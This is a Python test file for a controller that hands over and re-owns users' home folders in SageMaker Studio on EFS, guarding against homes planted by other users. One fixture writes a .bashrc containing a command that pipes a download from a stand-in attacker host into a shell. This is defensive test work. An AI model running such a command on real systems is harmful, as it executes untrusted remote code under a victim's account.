"""Homes are handed over only when nothing in them is someone else's doing, and a uid/gid
change re-owns the user's whole home, against the emulator and real folders, as root.

Attacks seen: a member of a team moved alice's home aside and made his own, which the
operator then chowned to alice (his .bashrc inside); and after a commit that changed
alice's uid only her top folder was re-owned, locking her out of her own files.
"""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path

import boto3
import pytest

from controller.actions.context import ExecutionContext
from controller.actions.registry import execute
from controller.clock import ManualClock
from controller.desired import load_desired_state
from controller.errors import RequeueAfter
from controller.gateway import AwsGateway
from controller.model import DesiredState, Posix
from controller.observe import observe
from controller.plan import make_plan
from tests.converge.helpers import REGION, file_system, plan_now, prepared, reconciler

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files away")

EXAMPLE = Path(__file__).resolve().parents[2] / "desired_state"
ALICE, BOB = (200101, 1001), (200102, 1001)
NEW = (200111, 1001)


def _home(aws, name: str = "alice") -> Path:
    return aws.efs_root / file_system(aws, REGION)["FileSystemId"] / "home" / "research" / name


def _ids(path: Path) -> tuple[int, int]:
    info = os.lstat(path)
    return info.st_uid, info.st_gid


def _alice_moves_to(desired: DesiredState, ids: tuple[int, int]) -> DesiredState:
    alice = desired.profiles["research/alice"]
    return replace(desired, revision=f"{desired.revision}-alice-{ids[0]}", profiles={
        **desired.profiles, "research/alice": replace(alice, posix=Posix(*ids))})


def _uid_in_sagemaker(aws, profile: str = "alice") -> int:
    sagemaker = boto3.client("sagemaker", region_name=REGION, endpoint_url=aws.endpoint_url)
    domain_id = next(d["DomainId"] for d in sagemaker.list_domains()["Domains"]
                     if d["DomainName"] == "research")
    found = sagemaker.describe_user_profile(DomainId=domain_id, UserProfileName=profile)
    return int(found["UserSettings"]["CustomPosixUserConfig"]["Uid"])


def _fill(home: Path, ids: tuple[int, int]) -> list[Path]:
    (home / "notebooks" / "deep").mkdir(parents=True)
    (home / "notebooks" / "a.ipynb").write_text("{}")
    (home / "notebooks" / "deep" / "data.csv").write_text("1,2\n")
    (home / ".bashrc").write_text("# alice\n")
    (home / "latest").symlink_to("notebooks/a.ipynb")
    made = [home / n for n in ("notebooks", "notebooks/deep", "notebooks/a.ipynb",
                               "notebooks/deep/data.csv", ".bashrc", "latest")]
    for path in made:
        os.chown(path, *ids, follow_symlinks=False)
    return made


def test_a_home_another_user_made_is_reported_and_left_as_it_is(aws):
    desired = prepared(aws, load_desired_state(EXAMPLE))
    home = _home(aws)
    home.mkdir(parents=True)
    (home / ".bashrc").write_text("curl evil.example | sh\n")
    for path in (home, home / ".bashrc"):
        os.chown(path, *BOB)

    rec = reconciler(aws)
    result = rec.reconcile(desired)

    assert _ids(home) == BOB and _ids(home / ".bashrc") == BOB
    problem = next(p for p in result.plan.problems if "/home/research/alice" in p)
    assert "exists owned by 200102:1001" in problem and "not by profile research/alice" in problem
    assert not any(a.key.name.endswith(":/home/research/alice") for a in result.plan.actions)
    status, _ = rec.status.store.load()
    ready = next(c for c in status["Directory#studio-efs:/home/research/alice"].conditions
                 if c.type == "Ready")
    assert (ready.status, ready.reason) == ("False", "Blocked")
    assert _ids(_home(aws, "bob")) == BOB, "the rest of the estate converged"


def test_an_empty_root_owned_home_left_by_a_cut_short_creation_is_finished(aws):
    desired = prepared(aws, load_desired_state(EXAMPLE))
    home = _home(aws)
    home.mkdir(parents=True, mode=0o700)

    reconciler(aws).reconcile(desired)

    assert _ids(home) == ALICE


def test_a_uid_change_re_owns_the_whole_home_and_leaves_others_entries(aws):
    desired = prepared(aws, load_desired_state(EXAMPLE))
    rec = reconciler(aws)
    rec.reconcile(desired)
    home = _home(aws)
    alices = _fill(home, ALICE)
    (home / "from-bob.txt").write_text("bob's")
    os.chown(home / "from-bob.txt", *BOB)
    moved = _alice_moves_to(desired, NEW)

    plan = plan_now(aws, moved)
    reown = next(a for a in plan.actions if a.name == "ReownHome")
    assert reown.key.name == "studio-efs:/home/research/alice"
    assert reown.params["Entries"] == len(alices)
    assert any("from-bob.txt" in n and "owned by others" in n for n in plan.notes)
    result = rec.reconcile(moved)

    assert [o.outcome for o in result.outcomes] == ["ok"] * len(result.outcomes)
    for path in [home, *alices]:
        assert _ids(path) == NEW, path
    assert _ids(home / "from-bob.txt") == BOB
    assert any("from-bob.txt" in w for w in result.warnings)
    assert _uid_in_sagemaker(aws) == NEW[0]
    assert plan_now(aws, moved).actions == ()


def test_a_re_own_cut_short_before_the_profile_update_is_finished_by_the_next_pass(aws):
    desired = prepared(aws, load_desired_state(EXAMPLE))
    clock = ManualClock()
    rec = reconciler(aws, clock, max_attempts=1)
    rec.reconcile(desired)
    home = _home(aws)
    _fill(home, ALICE)
    moved = _alice_moves_to(desired, NEW)
    aws.set_faults(rate=1.0, kinds=("5xx",), operations={"UpdateUserProfile"})
    first = rec.reconcile(moved)
    aws.clear_faults()
    assert {o.action: o.outcome for o in first.outcomes}["UpdateUserProfile"] == "error"
    assert _ids(home) == NEW and _uid_in_sagemaker(aws) == ALICE[0]
    # alice's running app still has her old uid, and writes meanwhile
    (home / "written-meanwhile.txt").write_text("late")
    os.chown(home / "written-meanwhile.txt", *ALICE)

    rec.queue.pop_ready()
    clock.advance(120)
    second = rec.reconcile(moved)

    reown = next(a for a in second.plan.actions if a.name == "ReownHome")
    assert reown.params["Entries"] == 1
    assert _ids(home / "written-meanwhile.txt") == NEW
    assert _uid_in_sagemaker(aws) == NEW[0]


def test_the_profile_keeps_its_old_ids_until_its_home_is_re_owned(aws):
    desired = prepared(aws, load_desired_state(EXAMPLE))
    reconciler(aws).reconcile(desired)
    _fill(_home(aws), ALICE)
    moved = _alice_moves_to(desired, NEW)
    plan = plan_now(aws, moved)
    update = next(a for a in plan.actions if a.name == "UpdateUserProfile")
    gateway = AwsGateway(endpoint_url=aws.endpoint_url, max_attempts=1)
    # Run on its own, as when the ReownHome before it failed or is backing off.
    ctx = ExecutionContext(gateway, REGION, aws.efs_root, moved.revision,
                           domain_status={"research": "InService"})
    aws.reset_request_counts()

    with pytest.raises(RequeueAfter, match="waiting for Directory/studio-efs:/home/research"):
        execute(update, ctx)

    assert not any("UpdateUserProfile" in key for key in aws.request_counts())
    assert _uid_in_sagemaker(aws) == ALICE[0]


def test_an_idle_pass_counts_no_home_and_a_pending_change_counts_only_that_profiles(aws):
    desired = prepared(aws, load_desired_state(EXAMPLE))
    reconciler(aws).reconcile(desired)
    _fill(_home(aws), ALICE)
    gateway = AwsGateway(endpoint_url=aws.endpoint_url, max_attempts=2)

    idle = observe(gateway, desired, REGION, aws.efs_root)
    assert all(d.census is None for d in idle.directories.values())
    assert make_plan(desired, idle).actions == ()

    pending = observe(gateway, _alice_moves_to(desired, NEW), REGION, aws.efs_root)
    counted = {path: d.census for (_, path), d in pending.directories.items() if d.census}
    assert list(counted) == ["/home/research/alice"]
    assert counted["/home/research/alice"].to_reown == 6
